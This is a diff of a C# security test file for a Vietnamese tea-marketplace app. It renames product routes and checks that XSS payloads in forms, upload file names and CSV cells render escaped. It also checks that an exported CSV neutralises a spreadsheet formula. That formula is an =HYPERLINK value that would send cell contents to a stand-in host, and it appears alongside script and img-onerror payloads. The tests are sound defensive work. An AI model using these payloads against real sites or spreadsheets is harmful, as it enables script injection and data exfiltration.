@@ -2,8 +2,8 @@ using System.IO.Compression;
 using System.Net;
 using AngleSharp.Dom;
 using Cho40.Tests.Infrastructure;
-using Cho40.Tests.Listings;
-using Cho40.Tests.Storefront;
+using Cho40.Tests.Catalog;
+using Cho40.Tests.ShopQueries;
 using Dapper;
 using Npgsql;
 
@@ -104,7 +104,7 @@ public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixt
     {
         using var seller = await SignedInAsync("0900000003");
         var category = await ScalarAsync<int>("SELECT id FROM categories WHERE slug = 'che-xanh'");
-        var created = await seller.SubmitFormAsync("/Seller/Products/New", "main form.form", new Dictionary<string, string>
+        var created = await seller.SubmitFormAsync("/Seller/Catalog/New", "main form.form", new Dictionary<string, string>
         {
             ["Input.Name"] = "Chè độc " + Payload, ["Input.CategoryId"] = category.ToString(), ["Input.Unit"] = "kg",
             ["Input.Price"] = "100000", ["Input.Stock"] = "5", ["Input.OtherCertifications"] = Payload,
@@ -112,12 +112,12 @@ public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixt
         });
         Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
         var id = long.Parse(created.Headers.Location!.OriginalString.Split('/').Last());
-        var (_, edit) = await seller.GetPageAsync($"/Seller/Products/Edit/{id}");
+        var (_, edit) = await seller.GetPageAsync($"/Seller/Catalog/Edit/{id}");
         Assert.Equal(HttpStatusCode.Redirect, (await seller.SubmitAsync(edit, "form[action*='handler=Publish']", new Dictionary<string, string>())).StatusCode);
         var slug = await ScalarAsync<string>("SELECT slug FROM products WHERE id = @id", new { id });
 
-        await AssertEscapedAsync(seller, $"/Seller/Products/Edit/{id}", mustShow: false);
-        await AssertEscapedAsync(seller, "/Seller/Products");
+        await AssertEscapedAsync(seller, $"/Seller/Catalog/Edit/{id}", mustShow: false);
+        await AssertEscapedAsync(seller, "/Seller/Catalog");
         using var shopper = App.NewClient();
         var product = await AssertEscapedAsync(shopper, $"/san-pham/{slug}");
         Assert.Empty(product.QuerySelectorAll("iframe"));
@@ -192,14 +192,14 @@ public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixt
         var category = await ScalarAsync<int>("SELECT id FROM categories WHERE slug = 'che-xanh'");
         const string formulaName = "=HYPERLINK(\"http://x.example/?\"&A1,\"Chè\")";
         const string formulaDescription = "-2+3 @SUM(A1) trà ngon";
-        var created = await seller.SubmitFormAsync("/Seller/Products/New", "main form.form", new Dictionary<string, string>
+        var created = await seller.SubmitFormAsync("/Seller/Catalog/New", "main form.form", new Dictionary<string, string>
         {
             ["Input.Name"] = formulaName, ["Input.CategoryId"] = category.ToString(), ["Input.Unit"] = "+kg",
             ["Input.Price"] = "100000", ["Input.Description"] = formulaDescription,
         });
         Assert.Equal(HttpStatusCode.Redirect, created.StatusCode);
 
-        var csv = await seller.Http.GetStringAsync("/Seller/Products/Export?format=csv");
+        var csv = await seller.Http.GetStringAsync("/Seller/Catalog/Export?format=csv");
         var cells = csv.Split(["\r\n"], StringSplitOptions.RemoveEmptyEntries).Skip(1)
             .SelectMany(line => line.Split(',')).Select(c => c.TrimStart('"')).ToList();
         Assert.Contains(cells, c => c.StartsWith("'=HYPERLINK", StringComparison.Ordinal));
@@ -207,16 +207,16 @@ public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixt
 
         // The guard is undone on import: the exported file imports back without changing the product.
         var content = new MultipartFormDataContent();
-        var (_, importPage) = await seller.GetPageAsync("/Seller/Products/Import");
+        var (_, importPage) = await seller.GetPageAsync("/Seller/Catalog/Import");
         content.Add(new StringContent(importPage.QuerySelector("input[name=__RequestVerificationToken]")!.GetAttribute("value")!), "__RequestVerificationToken");
         content.Add(new ByteArrayContent(System.Text.Encoding.UTF8.GetBytes(csv)), "file", "export.csv");
-        var imported = await seller.Http.PostAsync("/Seller/Products/Import", content);
+        var imported = await seller.Http.PostAsync("/Seller/Catalog/Import", content);
         Assert.True(imported.StatusCode is HttpStatusCode.Redirect or HttpStatusCode.OK);
         Assert.Equal(1, await ScalarAsync<int>("SELECT count(*) FROM products WHERE name = @formulaName AND unit = '+kg' AND description_md = @formulaDescription",
             new { formulaName, formulaDescription }));
 
         // XLSX keeps text cells as text (no formula elements), so it needs no guard.
-        var xlsx = await seller.Http.GetByteArrayAsync("/Seller/Products/Export?format=xlsx");
+        var xlsx = await seller.Http.GetByteArrayAsync("/Seller/Catalog/Export?format=xlsx");
         using var zip = new ZipArchive(new MemoryStream(xlsx));
         foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
         {
@@ -242,7 +242,7 @@ public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixt
         using var admin = await SignedInAsync("0900000001");
         var day = Cho40.Db.Domain.VietnamTime.DayOf(App.Clock.GetUtcNow()).AddDays(-2).ToString("dd/MM/yyyy");
         // Refused: every problem is listed with the cell's text.
-        var refused = await ListingTestKit.PostMultipartAsync(admin, "/Admin/Cod", "form.cod-upload", new Dictionary<string, string> { ["Input.Carrier"] = "GHN" },
+        var refused = await CatalogTestKit.PostMultipartAsync(admin, "/Admin/Cod", "form.cod-upload", new Dictionary<string, string> { ["Input.Carrier"] = "GHN" },
             ("Input.File", "bang-ke.csv", "text/csv", Cho40.Tests.Settlement.SettlementData.Csv(Cho40.Tests.Settlement.SettlementData.CanonicalHeader,
                 $"GHN1,,{Payload},0,0,0,{Payload},{day},")));
         Assert.Equal(HttpStatusCode.OK, refused.StatusCode);
@@ -251,7 +251,7 @@ public sealed class XssTests(DemoAppFixture fixture) : IClassFixture<DemoAppFixt
         Assert.Contains("<script>alert(1)</script>", page.Body!.TextContent);
 
         // Accepted: a tracking code and a file name carrying markup.
-        var accepted = await ListingTestKit.PostMultipartAsync(admin, "/Admin/Cod", "form.cod-upload", new Dictionary<string, string> { ["Input.Carrier"] = "GHN" },
+        var accepted = await CatalogTestKit.PostMultipartAsync(admin, "/Admin/Cod", "form.cod-upload", new Dictionary<string, string> { ["Input.Carrier"] = "GHN" },
             ("Input.File", "<img src=x onerror=alert(1)>.csv", "text/csv", Cho40.Tests.Settlement.SettlementData.Csv(Cho40.Tests.Settlement.SettlementData.CanonicalHeader,
                 $"<b>GHN</b><img src=x onerror=1>,<script>x</script>,100000,0,0,0,Đã giao,{day},")));
         Assert.Equal(HttpStatusCode.Redirect, accepted.StatusCode);
